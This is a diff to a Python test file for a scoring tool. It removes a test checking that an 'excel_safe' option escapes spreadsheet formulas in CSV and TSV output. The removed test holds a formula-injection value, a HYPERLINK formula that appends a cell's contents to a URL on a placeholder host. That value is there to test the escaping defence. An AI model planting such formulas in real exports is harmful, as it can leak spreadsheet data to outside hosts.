@@ -14,14 +14,13 @@ from PIL import Image
 
 from counting import Counted, CountingEncoder
 from msdscore import Paper, Scorer
-from msdscore.errors import ConfigError, RunError
+from msdscore.errors import RunError
 from msdscore.forms.registry import added
 from msdscore.io.tables import write_table
 from msdscore.rows.files import Row, open_rows
 from msdscore.rows.formats import open_records
 from msdscore.run.parts import FIRST_ROWS, Plan
 from msdscore.run.rows import RunOptions, score_file
-from msdscore.scoring.spec import ScorerSpec
 from tar_shards import write_tar
 
 COLUMNS = added(Paper)
@@ -533,28 +532,3 @@ def test_input_deleted_during_a_run_is_reported(tmp_path):
 
     with pytest.raises(RunError, match=r"rows\.jsonl: can no longer be"):
         run(Scorer("toy"), path, tmp_path / "out.parquet", progress=delete)
-
-
-@pytest.mark.parametrize("suffix", ["csv", "tsv"])
-def test_excel_safe_escapes_formulas(tmp_path, suffix):
-    path, rows = make_input(tmp_path, rows=3)
-    formula = '=HYPERLINK("http://x.invalid/?"&A1,"dog")'
-    rows[0] |= {"=note": formula, "less": -3}
-    path.write_text("\n".join(map(json.dumps, rows)))
-    run(Scorer("toy"), path, tmp_path / f"plain.{suffix}")
-    run(Scorer("toy"), path, tmp_path / f"safe.{suffix}", excel_safe=True)
-    plain, safe = (read_rows(tmp_path / f"{name}.{suffix}") for name in ("plain", "safe"))
-    assert plain[0]["=note"] == formula
-    assert safe[0]["'=note"] == f"'{formula}"
-    assert [row["msd"] for row in plain] == [row["msd"] for row in safe]
-    assert safe[0]["less"] == "-3"
-    with pytest.raises(ConfigError, match=r"--excel-safe .*\.csv or \.tsv"):
-        run(Scorer("toy"), path, tmp_path / "safe.parquet", excel_safe=True)
-    spec = ScorerSpec(encoder="toy")
-    for first in (True, False):
-        output = tmp_path / f"{first}.{suffix}"
-        with open_rows(path) as source:
-            score_file(spec, source, output, RunOptions(excel_safe=first))
-            assert score_file(spec, source, output, RunOptions(excel_safe=first)).scored == 0
-            with pytest.raises(RunError, match="another excel_safe"):
-                score_file(spec, source, output, RunOptions(excel_safe=not first))
